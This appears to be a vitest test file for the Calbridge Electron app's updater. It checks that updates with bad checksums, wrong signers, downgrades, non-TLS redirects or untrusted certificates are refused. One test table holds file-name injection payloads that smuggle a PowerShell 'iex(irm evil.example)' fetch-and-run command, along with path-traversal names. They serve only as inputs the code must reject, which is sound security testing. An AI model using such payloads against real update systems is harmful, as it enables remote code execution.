/** The updater of the product, whole, against a server of newer versions. */
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import type { ClientRequest, Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { configureRequestOptions, configureRequestUrl, HttpExecutor } from 'builder-util-runtime';
import type { DownloadOptions } from 'builder-util-runtime';
import type { RequestOptions } from 'node:https';
import electronUpdater from 'electron-updater';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { windowsInstaller } from '../../../../src/main/updates/installer.ts';
import { RefusedProgram } from '../../../../src/main/updates/refused.ts';
import { releaseFeed } from '../../../../src/main/updates/release-feed.ts';
import type { Installer } from '../../../../src/main/updates/installer.ts';
import type { ReleaseFeed } from '../../../../src/main/updates/release-feed.ts';
import { TLS_CERT, TLS_KEY } from '../../../support/tls.ts';

const PROGRAM = Buffer.from('the newer program');
const digest = (bytes: Buffer): string => createHash('sha512').update(bytes).digest('base64');

/** Trusts, besides nobody, the one authority it is given. */
class Wire extends HttpExecutor<ClientRequest> {
  readonly #ca: string | undefined;

  constructor(ca: string | undefined) {
    super();
    this.#ca = ca;
  }

  /** As the executor of Electron does it. */
  download(url: URL, destination: string, options: DownloadOptions): Promise<string> {
    return options.cancellationToken.createPromise((resolve, reject, onCancel) => {
      const request = {};
      configureRequestUrl(url, request);
      configureRequestOptions(request);
      const callback = (error: Error | null): void => {
        if (!(error instanceof Error)) resolve(destination);
        else reject(error);
      };
      this.doDownload(
        request,
        { destination, options, onCancel, callback, responseHandler: null },
        0,
      );
    });
  }

  override createRequest(
    options: RequestOptions,
    callback: (response: unknown) => void,
  ): ClientRequest {
    if (options.protocol === 'http:') return http.request(options, callback);
    return https.request({ ...options, ca: this.#ca }, callback);
  }
}

let server: https.Server;
/** Without TLS; what is asked of it has gone astray. */
let open: Server;
let astray: string[] = [];
let folder = '';
let loaded: string[] = [];
const shelf = new Map<string, Buffer | string>();
/** What lies elsewhere, and where. */
const moved = new Map<string, string>();

beforeAll(async () => {
  process.env['APPIMAGE'] = '/opt/calbridge.AppImage';
  server = https.createServer({ key: TLS_KEY, cert: TLS_CERT }, (request, response) => {
    const name = new URL(request.url ?? '/', 'https://localhost').pathname.slice(1);
    loaded.push(name);
    const [file, location] = [shelf.get(name), moved.get(name)];
    if (location !== undefined) response.writeHead(302, { location }).end();
    else response.writeHead(file === undefined ? 404 : 200).end(file);
  });
  open = http.createServer((request, response) => {
    const name = (request.url ?? '').slice(1).replace(/\?.*/, '');
    astray.push(name);
    response.end(shelf.get(name));
  });
  for (const one of [server, open]) {
    await new Promise<void>((resolve) => one.listen(0, '127.0.0.1', resolve));
  }
  folder = mkdtempSync(path.join(tmpdir(), 'calbridge-updates-'));
});

afterEach(() => {
  shelf.clear();
  moved.clear();
  [loaded, astray] = [[], []];
});

afterAll(async () => {
  delete process.env['APPIMAGE'];
  for (const one of [server, open]) await new Promise((resolve) => one.close(resolve));
  rmSync(folder, { recursive: true, force: true });
});

const portOf = (one: Server): string => String((one.address() as AddressInfo).port);
const address = (): string => `https://localhost:${portOf(server)}/`;
const withoutTls = (name: string): string => `http://localhost:${portOf(open)}/${name}`;

const TAKES_ALL: Installer = {
  prove: () => Promise.resolve(),
  place: () => Promise.resolve(),
  begin: () => Promise.resolve(),
};

const programIn = (own: string) => ({
  version: '1.5.0',
  name: 'Calbridge',
  isPackaged: true,
  appUpdateConfigPath: path.join(own, 'app-update.yml'),
  userDataPath: own,
  baseCachePath: own,
  whenReady: () => Promise.resolve(),
  relaunch: () => undefined,
  quit: () => undefined,
  onQuit: () => undefined,
});

const guide = (): Promise<void> => Promise.resolve();

/** As version 1.5.0 of an AppImage sees it. */
function feedFor(
  ca: string | undefined = TLS_CERT,
  installer: Installer = TAKES_ALL,
): ReleaseFeed & { readonly kept: () => string } {
  const own = mkdtempSync(path.join(folder, 'app-'));
  writeFileSync(path.join(own, 'app-update.yml'), 'updaterCacheDirName: calbridge-updater\n');
  const updater = new electronUpdater.AppImageUpdater(null, programIn(own));
  Object.assign(updater, { httpExecutor: new Wire(ca) });
  const kept = () => path.join(own, 'calbridge-updater/pending/Calbridge.AppImage');
  return { ...releaseFeed(updater, { installer, guide }), kept };
}

const LIST = `latest-linux${process.arch === 'x64' ? '' : `-${process.arch}`}.yml`;

function offer(version: string, sha512: string = digest(PROGRAM)): void {
  const list = [
    `version: ${version}`,
    'files:',
    '  - url: Calbridge.AppImage',
    `    sha512: ${sha512}`,
    `    size: ${String(PROGRAM.length)}`,
    'path: Calbridge.AppImage',
    `sha512: ${sha512}`,
    "releaseDate: '2026-11-26T00:00:00.000Z'",
  ];
  shelf.set(LIST, list.join('\n'));
  shelf.set('Calbridge.AppImage', PROGRAM);
}

describe.runIf(process.platform === 'linux')('the folder of newer versions', () => {
  it('tells a newer version, and loads nothing before it is asked to', async () => {
    offer('1.6.0');
    expect(await feedFor().newest(address())).toBe('1.6.0');
    expect(loaded.filter((name) => name.endsWith('.AppImage'))).toEqual([]);
  });

  it('has no news when it holds this version or an older one', async () => {
    for (const version of ['1.5.0', '1.4.9', '0.9.0']) {
      offer(version);
      expect(await feedFor().newest(address()), version).toBeNull();
    }
  });

  it('gives what its list says', async () => {
    offer('1.6.0');
    const feed = feedFor();
    await feed.newest(address());
    await feed.load('1.6.0', address());
    expect(readFileSync(feed.kept())).toEqual(PROGRAM);
  });

  it('is refused when the program is not the one of the list', async () => {
    offer('1.6.0', digest(Buffer.from('another program')));
    const feed = feedFor();
    await feed.newest(address());
    const load = feed.load('1.6.0', address());
    await expect(load).rejects.toThrow(/sha512 checksum mismatch/);
    await expect(load).rejects.toBeInstanceOf(RefusedProgram);
    expect(() => readFileSync(feed.kept())).toThrow();
  });

  it('is refused when the list names no digest', async () => {
    offer('1.6.0', '""');
    const feed = feedFor();
    await expect(
      feed.newest(address()).then(() => feed.load('1.6.0', address())),
    ).rejects.toThrow();
    expect(() => readFileSync(feed.kept())).toThrow();
  });

  it('gives nothing that is not proved to be its publisher’s', async () => {
    offer('1.6.0');
    const placed: string[] = [];
    const feed = feedFor(TLS_CERT, {
      ...TAKES_ALL,
      prove: () => Promise.reject(new Error('It is signed by nobody.')),
      place: (file) => Promise.resolve(void placed.push(file)),
    });
    await feed.newest(address());
    // What was loaded before is not believed for having been loaded.
    for (let time = 0; time < 2; time += 1) {
      await expect(feed.load('1.6.0', address())).rejects.toThrow('It is signed by nobody.');
    }
    await expect(feed.place()).rejects.toThrow('Nothing was loaded.');
    expect(placed).toEqual([]);
  });

  it('gives what was told, and not what came there since', async () => {
    offer('1.6.0');
    const feed = feedFor();
    await feed.newest(address());
    offer('1.7.0');
    await feed.newest(address());
    await expect(feed.load('1.6.0', address())).rejects.toThrow('1.7.0');
  });

  it('gives what was told of one address, and not what another has of that version', async () => {
    offer('1.6.0');
    const feed = feedFor();
    await feed.newest(address());
    await expect(feed.load('1.6.0', 'https://other.example/')).rejects.toThrow('holds 1.6.0 now');
  });

  it.each([
    ['a sign that ends a text of PowerShell', 'Setup%E2%80%99;iex(irm evil.example);.AppImage'],
    ['the same where the address has it not', 'Setup#’;iex(irm evil.example)'],
    ['the same before a folder', 'Setup#’;iex(irm evil.example);%2FSetup'],
    ['a folder of another system', String.raw`..\Setup.AppImage`],
    ['an option', '-Setup.AppImage'],
    ['nothing', ''],
  ])('is refused when its list names %s', async (_, name) => {
    offer('1.6.0');
    const list = String(shelf.get(LIST));
    shelf.set(LIST, list.replaceAll('Calbridge.AppImage', `'${name}'`));
    await expect(feedFor().newest(address())).rejects.toThrow('as none of ours is called');
  });

  it('gives a program whose name has a space, as that for Windows has', async () => {
    offer('1.6.0');
    const list = String(shelf.get(LIST));
    shelf.set('Calbridge%20Setup%201.6.0.AppImage', PROGRAM);
    shelf.set(LIST, list.replaceAll('Calbridge.AppImage', 'Calbridge Setup 1.6.0.AppImage'));
    const feed = feedFor();
    await feed.newest(address());
    await feed.load('1.6.0', address());
    expect(loaded).toContain('Calbridge%20Setup%201.6.0.AppImage');
  });

  it('answers each address by itself, also those who ask at the same time', async () => {
    offer('1.6.0');
    const feed = feedFor();
    const [one, other] = await Promise.all([
      feed.newest(`${address()}elsewhere/`).catch(() => 'nothing'),
      feed.newest(address()),
    ]);
    expect([one, other]).toEqual(['nothing', '1.6.0']);
  });

  it.each([
    ['its list lies', LIST],
    ['its program lies', 'Calbridge.AppImage'],
  ])('is not followed to where %s without TLS', async (_, name) => {
    offer('1.6.0');
    moved.set(name, withoutTls(name));
    const feed = feedFor();
    await expect(feed.newest(address()).then(() => feed.load('1.6.0', address()))).rejects.toThrow(
      /without TLS/,
    );
    expect(astray).toEqual([]);
    expect(() => readFileSync(feed.kept())).toThrow();
  });

  it('is not followed to where its list says that the program lies without TLS', async () => {
    offer('1.6.0');
    const list = String(shelf.get(LIST));
    shelf.set(LIST, list.replaceAll(/Calbridge\.AppImage/g, withoutTls('Calbridge.AppImage')));
    const feed = feedFor();
    await feed.newest(address());
    await expect(feed.load('1.6.0', address())).rejects.toThrow(/without TLS/);
    expect(astray).toEqual([]);
  });

  it('is followed to another place with TLS', async () => {
    offer('1.6.0');
    shelf.set('there/Calbridge.AppImage', PROGRAM);
    moved.set('Calbridge.AppImage', `${address()}there/Calbridge.AppImage`);
    const feed = feedFor();
    await feed.newest(address());
    await feed.load('1.6.0', address());
    expect(readFileSync(feed.kept())).toEqual(PROGRAM);
  });

  it('is not believed when its certificate is nobody’s that is trusted', async () => {
    offer('1.6.0');
    await expect(feedFor('').newest(address())).rejects.toThrow(/certificate/);
    expect(loaded).toEqual([]);
  });

  it('fails in words when there is nothing', async () => {
    await expect(feedFor().newest(address())).rejects.toThrow(/404|Cannot find/);
  });
});

// The updater for Windows, which asks for the list of the system that it runs on.
describe.runIf(process.platform === 'linux')('a newer version for Windows', () => {
  let own = '';
  const asked: string[] = [];
  let searched = '';

  beforeEach(() => {
    own = mkdtempSync(path.join(folder, 'app-'));
    asked.length = 0;
    searched = process.env['PATH'] ?? '';
    // Stands where the library looks for its PowerShell, and leaves a mark.
    const mark = `#!/bin/sh\necho "$@" >> '${path.join(own, 'mark')}'\n`;
    for (const name of ['powershell.exe', 'chcp']) {
      writeFileSync(path.join(own, name), mark, { mode: 0o755 });
    }
    process.env['PATH'] = `${own}:${searched}`;
    const config = "updaterCacheDirName: calbridge-updater\npublisherName: ['Calbridge AS']\n";
    writeFileSync(path.join(own, 'app-update.yml'), config);
    offer('1.6.0');
    shelf.set(LIST, String(shelf.get(LIST)).replaceAll('Calbridge.AppImage', 'Calbridge.exe'));
    shelf.set('Calbridge.exe', PROGRAM);
  });

  afterEach(() => {
    process.env['PATH'] = searched;
  });

  function feedOf(name: string, version: string): ReleaseFeed {
    const updater = new electronUpdater.NsisUpdater(null, programIn(own));
    Object.assign(updater, { httpExecutor: new Wire(TLS_CERT) });
    const signed = { status: 0, name, subject: null, product: 'Calbridge', version };
    const ask = (script: string): Promise<string> => {
      asked.push(script);
      return Promise.resolve(JSON.stringify(signed));
    };
    const guard = (): Promise<void> => Promise.resolve();
    const parts = { publishers: ['Calbridge AS'], ask, guard };
    return releaseFeed(updater, { installer: windowsInstaller({ updater, ...parts }), guide });
  }

  const pending = (): readonly string[] =>
    readdirSync(path.join(own, 'calbridge-updater/pending')).filter((name) => /exe$/.test(name));

  it('is proved by our own question alone, before it has its name', async () => {
    const feed = feedOf('Calbridge AS', '1.6.0');
    await feed.newest(address());
    await feed.load('1.6.0', address());
    expect(existsSync(path.join(own, 'mark'))).toBe(false);
    expect(asked.map((one) => /[^/]*\.exe/.exec(one)?.[0])).toEqual([
      'temp-Calbridge.exe',
      'Calbridge.exe',
    ]);
    expect(pending()).toEqual(['Calbridge.exe']);
  });

  it('is loaded as a whole, because its parts are not held to TLS', async () => {
    const feed = feedOf('Calbridge AS', '1.6.0');
    await feed.newest(address());
    await feed.load('1.6.0', address());
    expect(loaded.map((name) => name.replace(/\?.*/, ''))).toEqual([LIST, 'Calbridge.exe']);
  });

  it('is not kept when somebody else has signed it', async () => {
    const feed = feedOf('Somebody', '1.6.0');
    await feed.newest(address());
    await expect(feed.load('1.6.0', address())).rejects.toBeInstanceOf(RefusedProgram);
    expect(existsSync(path.join(own, 'mark'))).toBe(false);
    expect(pending()).toEqual([]);
    await expect(feed.place()).rejects.toThrow('Nothing was loaded.');
  });

  it('is refused when it is an older one under a newer name', async () => {
    const feed = feedOf('Calbridge AS', '0.9.0');
    await feed.newest(address());
    await expect(feed.load('1.6.0', address())).rejects.toThrow('It is version 0.9.0');
    await expect(feed.place()).rejects.toThrow('Nothing was loaded.');
  });
});
